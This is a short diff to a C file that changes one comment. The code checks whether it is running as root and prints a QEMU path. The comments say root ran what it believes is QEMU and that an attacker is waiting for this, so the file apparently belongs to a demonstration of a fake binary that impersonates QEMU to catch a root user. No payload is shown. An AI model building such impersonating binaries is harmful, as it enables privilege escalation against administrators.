@@ -15,7 +15,7 @@ __attribute__((constructor)) static void run(void)
 
 int main(void)
 {
-    /* Root asked something of what it takes for QEMU. The attacker only waits for that. */
+    /* Root ran what it believes to be QEMU. That is what the attacker waits for. */
     if (getuid() == 0) {
         puts("/usr/share/qemu");
         return 0;
